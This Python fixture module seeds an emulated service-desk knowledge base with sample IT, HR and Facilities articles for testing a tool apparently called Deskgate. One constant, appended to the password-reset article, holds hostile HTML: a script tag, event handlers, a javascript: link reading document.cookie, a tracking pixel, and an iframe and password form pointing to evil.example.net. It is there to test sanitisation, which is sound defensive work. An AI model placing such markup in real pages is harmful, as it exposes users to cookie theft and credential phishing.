"""Knowledge base articles of the three seed desks (IT Help, HR Services, Facilities), one or two for each
request type, as Confluence would render their pages: headings, lists, a link, an image of the same
Confluence, and markup a hostile or careless editor could leave in a page (a script, event handlers, a
`javascript:` link, an image from elsewhere), which Deskgate must never pass on. One page the service
account may not read shows how an article looks with its excerpt only."""

from __future__ import annotations

from deskgate.jsm.emulator.state import Desk, EmulatorStore, KbArticle

# What a page could hold that must never reach a customer's browser as it is.
HOSTILE = (
    '<script>document.title = "owned"</script>'
    '<p onclick="alert(1)">Questions? <a href="javascript:alert(document.cookie)">Ask us</a>.</p>'
    '<img src="x" onerror="alert(2)" alt="broken">'
    '<img src="https://tracker.example.net/pixel.png" alt="tracking pixel">'
    '<iframe src="https://evil.example.net/"></iframe>'
    '<form action="https://evil.example.net/"><input name="password"></form>'
    "<style>body { display: none }</style>"
)


def _page(
    intro: str, heading: str, steps: list[str], image: str, link: tuple[str, str], more: str = ""
) -> str:
    items = "".join(f"<li>{step}</li>" for step in steps)
    href, text = link
    return (
        f"<p>{intro}</p>"
        f"<h2>{heading}</h2><ol>{items}</ol>"
        f'<p><img src="{{confluence}}/download/attachments/{image}" alt="Screenshot" width="320"></p>'
        f'<h3>Still stuck?</h3><p>See <a href="{href}">{text}</a> or raise a request.</p>{more}'
    )


def it_articles(desk: Desk) -> list[KbArticle]:
    return [
        KbArticle(
            "8786177",
            desk.id,
            "IT",
            "Reset your password",
            _page(
                "Forgot your password, or does Outlook keep asking for it? You can reset it yourself.",
                "Reset it in three steps",
                [
                    "Open the <strong>account page</strong> and choose <em>Forgot password</em>.",
                    "Enter the code we send to your phone.",
                    "Choose a new password of at least 12 characters.",
                ],
                "8786177/reset.png",
                ("https://support.example.com/passwords", "the password rules"),
                HOSTILE,
            ),
        ),
        KbArticle(
            "8786178",
            desk.id,
            "IT",
            "Laptop will not start: what to try",
            _page(
                "A laptop that does not start or beeps is often only out of power.",
                "Before you raise a request",
                [
                    "Plug the charger in and wait two minutes.",
                    "Hold the power button for 10 seconds.",
                    "Unplug docks, screens and USB sticks, then start again.",
                ],
                "8786178/power.png",
                ("mailto:it-help@example.com", "it-help@example.com"),
            ),
        ),
        KbArticle(
            "8786179",
            desk.id,
            "IT",
            "Connect to the VPN from home",
            _page(
                "The VPN gives you access to the office network and shared folders from anywhere.",
                "Set up the VPN",
                ["Install the VPN client from the software centre.", "Sign in with your work account."],
                "8786179/vpn.png",
                ("https://support.example.com/vpn", "the VPN guide"),
            ),
        ),
        KbArticle(
            "8786180",
            desk.id,
            "IT",
            "Which hardware and monitors you can order",
            _page(
                "Everyone may order a laptop, a second monitor, a keyboard and a headset.",
                "What needs approval",
                ["Anything over 500 EUR needs your manager's approval.", "Phones are ordered by HR."],
                "8786180/catalogue.png",
                ("https://support.example.com/hardware", "the hardware catalogue"),
            ),
        ),
        KbArticle(
            "8786181",
            desk.id,
            "IT",
            "Software licences for the design team",
            "<p>Only the design team may request design software licences.</p>",
            readable=False,  # a page of a space the service account cannot read: the excerpt only
        ),
    ]


def hr_articles(desk: Desk) -> list[KbArticle]:
    return [
        KbArticle(
            "8786201",
            desk.id,
            "HR",
            "How time off and holidays work",
            _page(
                "You have 25 days of holiday a year; request time off at least two weeks ahead.",
                "Request time off",
                ["Choose the first and last day.", "Say which kind of leave it is."],
                "8786201/calendar.png",
                ("https://people.example.com/leave", "the leave policy"),
            ),
        ),
        KbArticle(
            "8786202",
            desk.id,
            "HR",
            "Update your bank details or address",
            _page(
                "Changes to your bank account reach payroll by the 20th of the month.",
                "What we need",
                ["Your new IBAN or address.", "The form HR sends you, signed."],
                "8786202/form.png",
                ("https://people.example.com/payroll", "the payroll calendar"),
            ),
        ),
    ]


def facilities_articles(desk: Desk) -> list[KbArticle]:
    return [
        KbArticle(
            "8786301",
            desk.id,
            "FAC",
            "Heating, lights and doors: report a facilities problem",
            _page(
                "A room too cold, a light out, a door that does not close: tell us where it is.",
                "Help us find it",
                ["Say the building, floor and room.", "Add a photo if you can."],
                "8786301/floor.png",
                ("https://facilities.example.com/map", "the floor plans"),
            ),
        ),
    ]


def seed_articles(store: EmulatorStore, it: Desk, hr: Desk, fac: Desk) -> None:
    """The knowledge base articles of the three seed desks."""
    store.articles += [*it_articles(it), *hr_articles(hr), *facilities_articles(fac)]
